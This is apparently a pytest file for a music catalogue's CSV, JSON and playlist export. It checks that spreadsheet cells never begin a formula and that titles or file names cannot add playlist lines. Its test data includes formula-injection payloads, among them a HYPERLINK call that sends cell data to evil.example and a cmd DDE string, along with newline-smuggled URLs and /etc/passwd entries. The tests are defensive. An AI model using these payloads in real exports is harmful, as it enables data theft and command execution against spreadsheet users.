"""Tables and playlists for other programs, with hostile titles and file names."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from contextlib import suppress
from pathlib import Path

import pytest

from library.catalogue.database import Catalogue
from library.catalogue.tables import Track, path_hash_of
from library.collection.exports import WriteError, export, guard_formula, write_playlist

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Song")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0+1",
    "\ufeff=1+1",
    "＝1+1",
    "－1",
    "a;=1+1",
    "a;\t =1+1",
    "a\t=1+1",
    "a\n-1",
    'a";=1+1;"',
    '"quoted", and\nbroken',
    "\x1b[31mred\x1b]0;title\x07",
    "노래 \u202e3pm.exe",
)
HARMLESS = ("A song - with a dash", "One; two", "1+1=2", "a;b=c")


def add(catalogue: Catalogue, *names: str, path: bytes | None = None) -> list[Track]:
    tracks = []
    with catalogue.session() as session:
        for number, name in enumerate(names):
            file = Path(os.fsdecode(path or b"/music/%d.mp3" % number))
            tracks.append(Track(path=file, path_hash=path_hash_of(file), title=name, artist=name, album=name))
        session.add_all(tracks)
        session.commit()
    return tracks


def test_no_cell_of_a_table_is_a_formula(catalogue: Catalogue, tmp_path: Path) -> None:
    add(catalogue, *HOSTILE, *HARMLESS)
    assert export(catalogue, tmp_path / "library.csv") == len(HOSTILE) + len(HARMLESS)
    with (tmp_path / "library.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    cells = [
        part.strip(" \u00a0\ufeff") for row in rows for cell in row.values() for part in re.split("[;\t\r\n]", cell)
    ]
    assert [cell for cell in cells if cell and cell[0] in "=+-@＝＋－＠"] == []
    titles = [title.replace("'", "") for title in (*HOSTILE, *HARMLESS)]
    assert [row["title"].replace("'", "") for row in rows] == titles
    assert tuple(row["title"] for row in rows[-len(HARMLESS) :]) == HARMLESS


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
def test_no_separator_makes_a_formula_of_a_cell(catalogue: Catalogue, tmp_path: Path, separator: str) -> None:
    """A spreadsheet separates cells by what its language uses, and may begin one at each line break."""
    add(catalogue, *HOSTILE, *HARMLESS)
    export(catalogue, tmp_path / "library.csv")
    text = (tmp_path / "library.csv").read_text("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
    cells += [cell for line in text.splitlines() for cell in line.split(separator)]
    cells = [cell.strip(" \u00a0\ufeff\t\r\n") for cell in cells]
    assert [cell for cell in cells if cell and cell[0] in "=+-@＝＋－＠" and not is_number(cell)] == []


def test_text_of_a_table_is_quoted(catalogue: Catalogue, tmp_path: Path) -> None:
    """So that a program that takes several separators at once, as LibreOffice does, sees one cell."""
    add(catalogue, "a;b")
    export(catalogue, tmp_path / "library.csv")
    assert ',"a;b",' in (tmp_path / "library.csv").read_text("utf-8")


def is_number(cell: str) -> bool:
    with suppress(ValueError):
        return isinstance(float(cell), float)
    return False


def test_only_text_that_begins_a_formula_is_guarded() -> None:
    assert [guard_formula(value) for value in (-1.5, "a-b", "1=1", None, "-1")] == [-1.5, "a-b", "1=1", None, "'-1"]


def test_json_contains_the_text_as_it_is(catalogue: Catalogue, tmp_path: Path) -> None:
    add(catalogue, *HOSTILE)
    export(catalogue, tmp_path / "library.json")
    rows = json.loads((tmp_path / "library.json").read_text("utf-8"))
    assert [row["title"] for row in rows] == list(HOSTILE)


def test_no_title_adds_a_line_to_a_playlist(catalogue: Catalogue, tmp_path: Path) -> None:
    titles = ("A\nhttp://evil.example/a.mp3", "B\r\n#EXTINF:1,x\n/etc/passwd", "C\u2028\x85\x1b[31m", "D")
    write_playlist(add(catalogue, *titles), tmp_path / "out.m3u8")
    text = (tmp_path / "out.m3u8").read_text("utf-8")
    assert len(text.splitlines()) == 1 + 2 * len(titles)
    paths = [line for line in text.splitlines() if not line.startswith("#")]
    assert paths == [f"/music/{number}.mp3" for number in range(len(titles))]
    assert "\x1b" not in text


@pytest.mark.parametrize(
    ("path", "line"),
    [
        (b"/music/a\nhttp:/evil.mp3", b"file:///music/a%0Ahttp%3A/evil.mp3"),
        (b"/music/a.mp3\r", b"file:///music/a.mp3%0D"),
        (b"/music/#1 \xff \xea\xb9\x80.mp3", b"/music/#1 \xff \xea\xb9\x80.mp3"),
    ],
)
def test_no_file_name_adds_a_line_to_a_playlist(catalogue: Catalogue, tmp_path: Path, path: bytes, line: bytes) -> None:
    write_playlist(add(catalogue, "song", path=path), tmp_path / "out.m3u8")
    lines = (tmp_path / "out.m3u8").read_bytes().split(b"\n")
    assert lines[2:] == [line, b""]


def test_a_file_is_written_completely_or_not_at_all(catalogue: Catalogue, tmp_path: Path) -> None:
    tracks = add(catalogue, "song")
    (tmp_path / "out.m3u8").mkdir()
    with pytest.raises(WriteError):
        write_playlist(tracks, tmp_path / "out.m3u8")
    assert [path.name for path in tmp_path.iterdir() if path.name != "var"] == ["out.m3u8"]
